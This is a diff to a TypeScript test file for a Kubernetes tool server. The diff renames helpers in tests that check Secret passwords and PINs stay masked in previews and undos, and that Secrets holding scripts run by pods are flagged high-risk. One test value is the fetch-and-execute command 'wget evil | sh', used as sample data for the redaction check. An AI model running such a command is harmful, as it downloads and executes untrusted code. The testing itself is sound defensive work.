@@ -32,7 +32,7 @@ async function make(plural: string, body: object, group = 'api/v1'): Promise<voi
 }
 
 /** All that an effect can tell, to the engine as well. */
-function toldBy(effect: Effect): string {
+function shownBy(effect: Effect): string {
   const opened = (effect.masks ?? []).map(({ object, path, sealed }) => {
     const { cluster, kind, namespace, name } = effect.objects[object] ?? {}
     if (sealed === undefined || cluster === undefined || kind === undefined || name === undefined) return ''
@@ -48,8 +48,8 @@ const patch = (operations: object[], of: object = { name: 'pw', resource_type: '
 })
 
 describe('what the server takes out of the cluster is told to nobody', () => {
-  const isUntold = (effect: Effect) => {
-    for (const text of [password, encoded(password), pin, encoded(pin)]) expect(toldBy(effect)).not.toContain(text)
+  const isHidden = (effect: Effect) => {
+    for (const text of [password, encoded(password), pin, encoded(pin)]) expect(shownBy(effect)).not.toContain(text)
     expect(effect.objects.length).toBeGreaterThan(0)
     expect(effect.masks?.some(({ side }) => side === 'after')).toBe(true)
   }
@@ -74,12 +74,12 @@ describe('what the server takes out of the cluster is told to nobody', () => {
       ],
     ],
   ])('by %s within a Secret', async (_, operations) => {
-    isUntold((await tools.preview(k8sPatch, patch(operations))).effect)
+    isHidden((await tools.preview(k8sPatch, patch(operations))).effect)
   })
 
   it('by an undo, of a value and of a whole Secret', async () => {
     const removed = await tools.write(k8sPatch, patch([{ op: 'remove', path: '/data/password' }]))
-    isUntold((await tools.preview(k8sRevert, undoArgs(removed.effect))).effect)
+    isHidden((await tools.preview(k8sRevert, undoArgs(removed.effect))).effect)
     const content = JSON.stringify({
       apiVersion: 'v1',
       kind: 'Secret',
@@ -87,9 +87,9 @@ describe('what the server takes out of the cluster is told to nobody', () => {
       stringData: { password },
     })
     const made = await tools.write(k8sApply, { content })
-    expect(toldBy(made.effect)).toContain(encoded(password))
+    expect(shownBy(made.effect)).toContain(encoded(password))
     const gone = await tools.write(k8sRevert, undoArgs(made.effect))
-    isUntold((await tools.preview(k8sRevert, undoArgs(gone.effect))).effect)
+    isHidden((await tools.preview(k8sRevert, undoArgs(gone.effect))).effect)
   })
 
   it('a right guess does not show a copy', async () => {
@@ -113,7 +113,7 @@ describe('what the server takes out of the cluster is told to nobody', () => {
       { ...of({ data: { other: encoded('a-new-password-of-it') } }), patch_type: 'strategic' },
     ]) {
       const { effect } = await tools.preview(k8sPatch, args)
-      expect(toldBy(effect)).toContain(encoded('a-new-password-of-it'))
+      expect(shownBy(effect)).toContain(encoded('a-new-password-of-it'))
     }
   })
 
@@ -133,7 +133,7 @@ describe('what the server takes out of the cluster is told to nobody', () => {
       patch([{ op: 'remove', path: '/data/run.sh' }], { name: 'run', resource_type: 'secret' }),
     )
     const { effect } = await tools.preview(k8sRevert, undoArgs(changed.effect))
-    expect(toldBy(effect)).not.toContain(encoded('wget evil | sh'))
+    expect(shownBy(effect)).not.toContain(encoded('wget evil | sh'))
     expect(effect.risk).toBe('high')
     expect(effect.reasons).toContain(
       `puts back what may run of Secret ${namespace}/run as it was, which nobody may read here`,
@@ -192,7 +192,7 @@ describe('a Secret whose values a pod runs', () => {
     const spec = { replicas: 0, selector: { matchLabels: { a: name } }, template }
     return { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name }, spec }
   }
-  const isTold = ({ highlights, masks, risk }: Effect) => {
+  const isShown = ({ highlights, masks, risk }: Effect) => {
     expect(risk).toBe('high')
     expect(highlights?.map(({ fact }) => fact)).toContainEqual(
       expect.stringMatching(/^script in base64 payload \*\*\*/),
@@ -211,7 +211,7 @@ describe('a Secret whose values a pod runs', () => {
       stringData: { payload: text },
     }
     const content = `${JSON.stringify(secret)}\n---\n${JSON.stringify(pod('sx'))}`
-    isTold((await tools.preview(k8sApply, { content })).effect)
+    isShown((await tools.preview(k8sApply, { content })).effect)
   })
 
   it('is told where the pod is there', async () => {
@@ -219,7 +219,7 @@ describe('a Secret whose values a pod runs', () => {
     await make('deployments', pod('sx'), 'apis/apps/v1')
     const write = (data: object) =>
       tools.preview(k8sPatch, { name: 'sx', resource_type: 'secret', patch: JSON.stringify({ stringData: data }) })
-    isTold((await write({ payload })).effect)
+    isShown((await write({ payload })).effect)
     const { effect } = await write({ other: payload })
     expect(effect.masks?.map(({ executable }) => executable)).not.toContain(true)
     expect(effect.highlights).toEqual([])
@@ -234,6 +234,6 @@ describe('a Secret whose values a pod runs', () => {
     expect(effect.reasons).toContain(
       `Deployment ${namespace}/sx may run payload of Secret sx, which nobody may read here`,
     )
-    expect(toldBy(effect)).not.toContain(encoded(payload))
+    expect(shownBy(effect)).not.toContain(encoded(payload))
   })
 })
